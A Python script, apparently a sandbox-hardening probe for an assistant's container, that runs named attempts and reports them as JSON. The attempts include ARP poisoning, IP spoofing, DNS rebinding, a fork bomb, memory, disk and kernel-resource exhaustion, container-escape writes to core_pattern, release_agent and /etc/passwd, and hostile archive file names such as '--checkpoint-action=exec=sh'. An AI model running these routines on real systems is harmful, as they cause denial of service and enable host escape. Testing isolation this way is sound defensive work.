"""Runs inside an instance, from its command line alone: `python3 -s -c SCRIPT NAME`, with JSON on standard input.

It does what it is named for as well as anybody could, prints one line of JSON, holds all that it got until its
standard input ends, and lets go. What it says of itself decides nothing.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import http.client
import itertools
import json
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from typing import Any

#: Seconds that a try to reach somebody waits for an answer.
PATIENCE = 1.0
HOME = "/home/node"
_LIBC = ctypes.CDLL(None, use_errno=True)
_IP_FREEBIND = 15
_ADD_KEY, _IO_SETUP = 248, 206
_CLONE_NEWNS, _CLONE_NEWUSER, _CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
#: What is held until the end.
_held: list[Any] = []


def reach(targets: Sequence[tuple[str, int, str]]) -> Any:
    """Connect or send to each of them."""
    with ThreadPoolExecutor(64) as pool:
        return list(pool.map(lambda target: _outcome(lambda: _knock(*target)), targets))


def forge(to: tuple[str, int], sources: Sequence[str]) -> Any:
    """Send as somebody else: by binding, by a raw packet, and by taking the address."""
    said = []
    for source in sources:
        said += [
            _outcome(lambda source=source: _send_bound(to, source)),  # type: ignore[misc]
            _outcome(lambda source=source: _send_raw(to, source)),  # type: ignore[misc]
            _outcome(lambda source=source: _take(to, source)),  # type: ignore[misc]
        ]
    return said


def arp(claimed: str, victim: str) -> Any:
    """Tell everybody on the bridge that the claimed address is here."""

    def send() -> None:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
            wire.bind(("eth0", 0x806))
            own = wire.getsockname()[4]
            mine, theirs = socket.inet_aton(claimed), socket.inet_aton(victim)
            for operation in (1, 2):
                payload = struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + own + mine + b"\xff" * 6 + theirs
                wire.send(b"\xff" * 6 + own + b"\x08\x06" + payload)

    return _outcome(send)


def rebind(server: str, name: str, port: int) -> Any:
    """Ask for a name whose owner turned it inwards, and go where it leads."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(PATIENCE)
        asker.connect((server, 53))
        asker.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1))
        address = socket.inet_ntoa(asker.recv(4096)[-4:])
    return [address, _outcome(lambda: _knock(address, port, "tcp"))]


def crowd(to: tuple[str, int], count: int) -> Any:
    """Open that many connections and keep them."""
    got = 0
    for _ in range(count):
        one = socket.socket()
        one.settimeout(0.05)
        with contextlib.suppress(OSError):
            one.connect(tuple(to))
            got += 1
        _held.append(one)
    return got


def call(address: str, port: int, requests: Sequence[dict[str, Any]]) -> Any:
    """HTTP requests, and the status and first words of each answer."""
    said = []
    for request in requests:
        connection = http.client.HTTPConnection(address, port, timeout=10)
        try:
            connection.putrequest(
                request.get("method", "POST"), request["path"], skip_host="host" in request["headers"]
            )
            body = request.get("body", "").encode()
            for key, value in {"content-length": str(len(body)), **request["headers"]}.items():
                connection.putheader(key, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            said.append([answer.status, answer.read(300).decode(errors="replace")])
        except (OSError, http.client.HTTPException) as error:
            said.append([0, repr(error)])
        finally:
            connection.close()
    return said


def fork() -> Any:
    """A fork bomb that waits once nothing more can be born."""
    reader, writer = os.pipe()
    made, told = os.pipe()
    _held.append(writer)
    deadline = time.monotonic() + 5.0
    parent = os.getpid()
    for _ in range(24):
        # Everybody forks, so that their number doubles.
        if time.monotonic() > deadline:
            break
        try:
            child = os.fork()
        except OSError:
            time.sleep(0.02)
            continue
        if child == 0:
            os.write(told, b".")
    if os.getpid() != parent:
        for kept in (writer, told):
            os.close(kept)
        # Ends when the first one has let go.
        os.read(reader, 1)
        os._exit(0)
    os.close(told)
    os.set_blocking(made, False)
    with contextlib.suppress(BlockingIOError):
        return len(os.read(made, 1 << 20))
    return 0


def memory(mib: int) -> Any:
    """Take so much memory and keep it, unless the kernel ends whoever takes it."""
    until, held = os.pipe()
    told, tell = os.pipe()
    if os.fork() == 0:
        os.close(held)
        taken = [bytearray(os.urandom(4096) * 4096) for _ in range(mib // 16)]
        os.write(tell, b"%d" % len(taken))
        os.read(until, 1)
        os._exit(0)
    os.close(tell)
    _held.append(held)
    return os.read(told, 16).decode()


def fill(folder: str) -> Any:
    """Write until nothing more fits."""
    path, piece, written = f"{folder}/filler", bytes(1 << 20), 0
    try:
        file = open(path, "wb", buffering=0)  # noqa: SIM115
    except OSError as error:
        return _name(error)
    with file:
        with contextlib.suppress(OSError):
            while True:
                written += file.write(piece)
        with contextlib.suppress(OSError):
            os.fsync(file.fileno())
    _held.append(_Removed(path))
    return written


def many(folder: str, most: int) -> Any:
    """Make files until there can be no more."""
    where = f"{folder}/many"
    os.makedirs(where, exist_ok=True)
    _held.append(_Emptied(where))
    made = 0
    with contextlib.suppress(OSError):
        for made in range(most):
            os.close(os.open(f"{where}/{made}", os.O_CREAT | os.O_WRONLY))
    return made


def descriptors(processes: int) -> Any:
    """As many open files as that many processes get."""
    return _in_processes(processes, lambda: os.dup(0))


def inotify(processes: int) -> Any:
    """As many instances of inotify as that many processes get."""
    return _in_processes(processes, lambda: _call(_LIBC.inotify_init1, 0))


def watches(folder: str, files: int, instances: int) -> Any:
    """Watch each of many files from many places."""
    many(folder, files)
    paths = [f"{folder}/many/{number}".encode() for number in range(files)]
    made = 0
    with contextlib.suppress(OSError):
        for _ in range(instances):
            watcher = _call(_LIBC.inotify_init1, 0)
            for path in paths:
                if _LIBC.inotify_add_watch(watcher, path, 0xFFF) >= 0:
                    made += 1
    return made


def epoll(sets: int, each: int) -> Any:
    """Wait for the same thing in many places."""
    once = os.pipe()[0]
    copies = [os.dup(once) for _ in range(each)]
    made = 0
    with contextlib.suppress(OSError):
        for _ in range(sets):
            waiter = select.epoll()
            _held.append(waiter)
            for copy in copies:
                waiter.register(copy)
            made += each
    return made


def pipes(count: int) -> Any:
    """Full pipes."""
    written = 0
    with contextlib.suppress(OSError):
        for _ in range(count):
            _, writer = os.pipe()
            os.set_blocking(writer, False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    written += os.write(writer, bytes(65536))
    return written


def keys(count: int) -> Any:
    """Keys of the kernel's."""
    made = 0
    with contextlib.suppress(OSError):
        for number in range(count):
            _call(_LIBC.syscall, _ADD_KEY, b"user", b"zaki%d" % number, b"x" * 64, 64, -4)
            made += 1
    return made


def aio(count: int) -> Any:
    """All of the machine's asynchronous requests."""
    made = 0
    with contextlib.suppress(OSError):
        for _ in range(count):
            _call(_LIBC.syscall, _IO_SETUP, 4096, ctypes.byref(ctypes.c_ulong(0)))
            made += 1
    return made


def log(mib: int) -> Any:
    """Flood the log of the container, through the output of its first process."""
    try:
        target = os.open("/proc/1/fd/1", os.O_WRONLY)
    except OSError as error:
        return _name(error)
    piece, written = (b"x" * 1023 + b"\n") * 64, 0
    while written < mib << 20:
        written += os.write(target, piece)
    return written


def mounts(devices: Sequence[tuple[int, int]]) -> Any:
    """Mount, make namespaces and devices, and write where nobody may."""
    tries: dict[str, Callable[[], object]] = {
        "mount": lambda: _call(_LIBC.mount, b"none", b"/tmp", b"tmpfs", 0, b""),
        "remount": lambda: _call(_LIBC.mount, b"none", b"/", b"", 0x20, b""),
        "proc": lambda: _call(_LIBC.mount, b"proc", b"/proc", b"proc", 0x20, b""),
        "user": lambda: _call(_LIBC.unshare, _CLONE_NEWUSER),
        "users": lambda: _call(_LIBC.unshare, _CLONE_NEWUSER | _CLONE_NEWNS | _CLONE_NEWNET),
        "namespace": lambda: _call(_LIBC.setns, os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
        "chroot": lambda: os.chroot(HOME),
        "root": lambda: _write("/escaped", b"x"),
        "program": lambda: _write("/usr/local/bin/node", b"x"),
        "users' file": lambda: _write("/etc/passwd", b"x"),
    }
    for folder in ("/tmp", HOME, "/dev", "/dev/shm"):
        for number, device in enumerate(devices):
            path = f"{folder}/device{number}"
            tries[path] = lambda path=path, device=device: _make_device(path, device)  # type: ignore[misc]
    return {name: _outcome(attempt) for name, attempt in tries.items()}


def proc(marker: str) -> Any:
    """Write and read what /proc and /sys show of the host."""
    said = {}
    written = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper"]
    limits = ("memory.limit_in_bytes", "memory.max", "pids.max", "cpu.cfs_quota_us", "cpu.max")
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        written += [f"{folder}/{name}" for name in names if name in limits or name == "release_agent"]
    for path in written:
        said[path] = _outcome(lambda path=path: _write(path, marker.encode()))  # type: ignore[misc]
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/sysrq-trigger"):
        said[path] = _outcome(lambda path=path: os.open(path, os.O_RDONLY))  # type: ignore[misc]
    return said


def setuid() -> Any:
    """Start every program that would run as somebody else, and leave it waiting."""
    found = []
    for folder in ("/usr/bin", "/usr/sbin", HOME):
        for entry in os.scandir(folder):
            if entry.is_file(follow_symlinks=False) and entry.stat().st_mode & 0o6000:
                found.append(entry.path)
    for path in found:
        with contextlib.suppress(OSError):
            waiting = subprocess.Popen(
                [path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
            _held.append(_Killed(waiting))
    return found


def sockets(abstract: str, paths: Sequence[str]) -> Any:
    """Talk to the host's own sockets."""
    said = []
    for path in (f"\0{abstract}", *paths):
        with socket.socket(socket.AF_UNIX) as one:
            said.append(_outcome(lambda one=one, path=path: one.connect(path)))  # type: ignore[misc]
    return said


def links(targets: dict[str, str]) -> Any:
    """Put a link in the place of each of these files or folders below the home folder."""
    for place, target in targets.items():
        path = f"{HOME}/{place}"
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with contextlib.suppress(FileNotFoundError):
            os.rename(path, f"{path}.old")
        os.symlink(target, path)
    return sorted(targets)


def unlink(places: Sequence[str]) -> Any:
    """Take the links away again."""
    for place in places:
        path = f"{HOME}/{place}"
        with contextlib.suppress(OSError):
            os.unlink(path)
        with contextlib.suppress(OSError):
            os.rename(f"{path}.old", path)
    return sorted(places)


def hostile(outside: str) -> Any:
    """Names, links and modes that a careless reader of an archive would follow or keep."""
    os.chdir(HOME)
    os.symlink(outside, "absolute")
    os.symlink("../" * 30 + outside.lstrip("/"), "outwards")
    os.makedirs("into/deep")
    os.symlink(outside, "into/deep/link")
    os.symlink(".", "itself")
    for name in (b"-rf", b"..not-up", b"line\nbreak", b"\xff\xfe", b"x" * 255, b"--checkpoint-action=exec=sh"):
        with open(name, "wb") as file:
            file.write(b"mine")
    os.chmod("..not-up", 0o6755)
    os.link("..not-up", "into/hard")
    os.mkfifo("pipe")
    deep = "d" * 200
    os.makedirs("/".join([deep] * 15))
    with open("hole", "wb") as file:
        file.truncate(20_000_000)
    return len(os.listdir())


def poison(configs: Sequence[str], place: str) -> Any:
    """Rewrite its own configuration."""
    path = f"{HOME}/{place}"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    for config in configs:
        _write(path, config.encode())
    return len(configs)


def work(place: str) -> Any:
    """What an assistant needs of its machine; fails where any of it cannot be had."""
    watcher = _call(_LIBC.inotify_init1, 0)
    with open(f"{HOME}/{place}", "w") as file:
        file.write("worked")
        file.flush()
        os.fsync(file.fileno())
    _call(_LIBC.inotify_add_watch, watcher, f"{HOME}/{place}".encode(), 0xFFF)
    reader, writer = os.pipe()
    waiter = select.epoll()
    waiter.register(reader)
    os.write(writer, b"x" * 4096)
    left, right = socket.socketpair()
    left.send(b"x")
    right.recv(1)
    threads = [threading.Thread(target=time.sleep, args=(0.01,)) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    _held.append(bytearray(32 << 20))
    subprocess.run(["/usr/local/bin/node", "-e", "require('fs').watch('.').close()"], cwd=HOME, check=True)
    return "worked"


class _Removed:
    def __init__(self, path: str) -> None:
        self._path = path

    def close(self) -> None:
        os.unlink(self._path)


class _Emptied(_Removed):
    def close(self) -> None:
        for name in os.listdir(self._path):
            os.unlink(f"{self._path}/{name}")
        os.rmdir(self._path)


class _Killed:
    def __init__(self, process: subprocess.Popen[bytes]) -> None:
        self._process = process

    def close(self) -> None:
        self._process.kill()
        self._process.wait()


def _in_processes(count: int, take: Callable[[], object]) -> int:
    """Take until it fails, in that many processes that hold on; returns how often it did not fail."""
    until, held = os.pipe()
    told, tell = os.pipe()
    for _ in range(count):
        if os.fork() == 0:
            os.close(held)
            taken = 0
            with contextlib.suppress(OSError):
                for _ in itertools.count():
                    take()
                    taken += 1
            os.write(tell, struct.pack("!q", taken))
            os.read(until, 1)
            os._exit(0)
    return sum(struct.unpack("!q", os.read(told, 8))[0] for _ in range(count))


def _knock(to: str, port: int, kind: str) -> str:
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as one:
        one.settimeout(PATIENCE)
        one.connect((to, port))
        one.send(b"knock\n")
        return "answered" if one.recv(64) else "closed"


def _send_bound(to: tuple[str, int], source: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IP, _IP_FREEBIND, 1)
        one.bind((source, 0))
        one.sendto(b"forged", tuple(to))


def _send_raw(to: tuple[str, int], source: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        datagram = struct.pack("!HHHH", 4321, to[1], 14, 0) + b"forged"
        ends = socket.inet_aton(source) + socket.inet_aton(to[0])
        one.sendto(struct.pack("!BBHHHBBH", 0x45, 0, 34, 1, 0, 64, 17, 0) + ends + datagram, (to[0], 0))


def _take(to: tuple[str, int], source: str) -> None:
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        name = struct.pack("16sHH4s8x", b"eth0:1", socket.AF_INET, 0, socket.inet_aton(source))
        fcntl.ioctl(one, 0x8916, name)
        try:
            one.bind((source, 0))
            one.sendto(b"forged", tuple(to))
        finally:
            fcntl.ioctl(one, 0x8914, struct.pack("16sh14x", b"eth0:1", 0))


def _make_device(path: str, device: tuple[int, int]) -> int:
    os.mknod(path, 0o60600, os.makedev(*device))
    return os.open(path, os.O_RDONLY)


def _call(function: Any, *arguments: Any) -> int:
    found = int(function(*arguments))
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return found


def _write(path: str, content: bytes) -> None:
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    try:
        os.write(descriptor, content)
    finally:
        os.close(descriptor)


def _outcome(attempt: Callable[[], object]) -> str:
    try:
        return str(attempt() or "done")
    except OSError as error:
        return _name(error)


def _name(error: OSError) -> str:
    return errno.errorcode.get(error.errno or 0, str(error))


NAMES: dict[str, Callable[..., Any]] = {
    function.__name__: function
    for function in (
        *(
            reach,
            forge,
            arp,
            rebind,
            crowd,
            call,
            fork,
            memory,
            fill,
            many,
            descriptors,
            inotify,
            watches,
            epoll,
            pipes,
        ),
        *(keys, aio, log, mounts, proc, setuid, sockets, links, unlink, hostile, poison, work),
    )
}


def main(name: str) -> None:
    """Do it, say so, and hold on until standard input ends."""
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    given = json.loads(sys.stdin.readline() or "{}")
    said = NAMES[name](**given)
    print(json.dumps(said), flush=True)
    sys.stdin.read()
    for one in _held:
        with contextlib.suppress(OSError, AttributeError, TypeError):
            os.close(one) if isinstance(one, int) else one.close()


if __name__ == "__main__":
    main(sys.argv[1])
